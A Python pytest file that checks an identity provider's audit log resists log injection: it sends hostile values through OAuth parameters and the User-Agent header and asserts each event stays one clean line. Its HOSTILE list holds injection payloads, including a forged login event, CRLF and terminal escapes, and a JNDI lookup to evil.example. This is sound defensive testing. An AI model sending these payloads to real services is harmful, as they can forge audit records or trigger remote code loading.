"""One event is one line of the log, whatever a request says, and no terminal obeys it.

Precedents: CWE-117; Keycloak CVE-2026-16100 (text of errors as labels); terminals that run C1 sequences.
"""

import json
import re

import pytest

from deploy.demo.scene import Scene
from idp.audit import BrokenLink, verify
from tests.attacks.raw_http import request
from tests.idp.wire import BASE, CONNECT, Wire

pytestmark = pytest.mark.precedent("CWE-117")


HOSTILE = [
    'x","event.action":"login.succeeded","user.id":"1',
    '\n{"event.action":"login.succeeded"}',
    "\r\nX: y",
    "\x1b[2J\x07",
    "\x9b31m",
    "\u2028\u2029\x85",
    "\u202e\u2066\u200f",
    "\ufeff\u0000",
    "${jndi:ldap://evil.example/a}",
    "%s%n{0}",
]


def _lines(log: bytes) -> list[bytes]:
    assert log.endswith(b"\n")
    return log[:-1].split(b"\n")


@pytest.mark.parametrize("hostile", HOSTILE)
def test_through_every_parameter(wire: Wire, hostile: str) -> None:
    names = ("client_id", "redirect_uri", "scope", "prompt", "response_type", "state", "login_hint", "code_challenge_method")
    wire.http.get(f"{BASE}/auth", params=dict.fromkeys(names, hostile))
    for name in names:
        wire.authorize(**({"client_id": hostile} if name == "client_id" else {name: hostile}))
    wire.authorize(**{hostile: "x" * 3000})
    form = {"grant_type": hostile, "code": hostile, "refresh_token": hostile, "token": hostile, "scope": hostile}
    for path in ("token", "token/introspect", "revoke"):
        wire.post(path, "baseline", **form)
        wire.http.post(f"{CONNECT}/{path}", data={**form, "client_id": hostile})
        wire.http.post(f"{CONNECT}/{path}", data={**form, "client_id": hostile, "client_secret": hostile})
    _check(wire)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_through_the_name_of_a_browser(wire: Wire, hostile: str) -> None:
    agent = hostile.encode("latin-1", "ignore").replace(b"\n", b"").replace(b"\r", b"").replace(b"\0", b"")
    wire.http.get(f"{BASE}/auth", headers={"User-Agent": agent})
    wire.http.get(f"{BASE}/auth", headers={"User-Agent": agent * 500})
    _check(wire)


def _check(wire: Wire) -> None:
    log = (wire._folder / "audit.ndjson").read_bytes()
    for line in _lines(log):
        event = json.loads(line)
        assert event["event.action"] != "login.succeeded"
        assert len(line) < 4000
    text = log.decode()
    assert len(text.splitlines()) == text.count("\n"), "no other character ends a line"
    assert re.findall("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069\ufeff]", text) == []
    assert not any(isinstance(link, BrokenLink) for link in verify(wire._folder / "audit.ndjson"))


def test_a_header_with_control_characters_is_not_even_read(scene: Scene) -> None:
    for agent in ("a\x1b[2Jb", "a\x00b", "a\x07", "a\nb"):
        assert request(f"{scene.idp_url}/auth?client_id=control-characters", User_Agent=agent).status == 400
    assert "\\u001b" not in (scene.folder / "idp" / "audit.ndjson").read_text("utf-8")
